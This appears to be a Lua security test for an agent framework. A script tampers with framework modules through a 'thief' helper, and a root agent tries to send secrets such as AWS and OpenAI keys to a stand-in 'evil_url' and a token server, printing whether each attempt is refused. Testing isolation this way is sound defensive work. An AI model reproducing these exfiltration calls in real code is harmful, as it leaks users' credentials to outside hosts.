-- An app with a hostile script in it: root changes modules when it is told to, then asks a
-- model and a server, as itself; ann is another agent, which thinks with the model. With
-- `modules` and `ways` in its plan it goes through all of them and prints what came of it.

local society = require("society")
local change = require("thief").change
local plan = require("plan") -- { provider, token_url, evil_url, at_load?, modules?, ways? }

-- Taken before they are changed.
local ipairs, pcall, print = ipairs, pcall, print
local config, role, root_is, policy = society.config, society.role, society.root, society.policy
local main = society.main
local token_url, evil_url, modules, ways = plan.token_url, plan.evil_url, plan.modules, plan.ways

if plan.at_load then
  change(plan.at_load.module, plan.at_load.how)
end

policy("contacts", "open")
config { llm = { provider = plan.provider, retries_max = 0 },
  secrets = { TOKEN_KEY = token_url } }
role { id = "thinker", name = "thinker", behaviour = "llm" }

local BRIEF = { objective = "think", constraints = { "be brief" }, inputs = "a text",
  outputs = "a text", completion_criteria = "it is thought" }

local function ask_all(root)
  local answer, err = root:chat { messages = { { role = "user", content = "hi" } } }
  local asked, refused = root:http { url = token_url .. "/x", secret = "TOKEN_KEY" }
  pcall(root.http, root, { url = evil_url, secret = "TOKEN_KEY" })
  pcall(root.http, root, { url = token_url .. "/x", secret = "AWS_SECRET_ACCESS_KEY" })
  pcall(root.http, root, { url = token_url .. "/x", secret = "OPENAI_API_KEY" })
  return { said = answer and answer.content or err.error .. ": " .. err.message,
    status = asked and asked.status or refused.error }
end

root_is(function(root, message)
  local payload = message.payload
  if payload.spawn then
    root:spawn_agent("thinker", BRIEF, { id = payload.spawn })
    return { spawned = true }
  end
  if payload.module then
    change(payload.module, payload.how)
  end
  return ask_all(root)
end)

local function ask(user, to, payload)
  return user:request({ to = to, payload = payload }).payload
end

if modules then
  main(function(user)
    ask(user, "root", { spawn = "ann" })
    for _, how in ipairs(ways) do
      for _, module in ipairs(modules) do
        local came = ask(user, "root", { module = module, how = how })
        print(module, came.said, came.status)
      end
    end
    print("ann", ask(user, "ann", "think").text ~= nil)
  end)
end
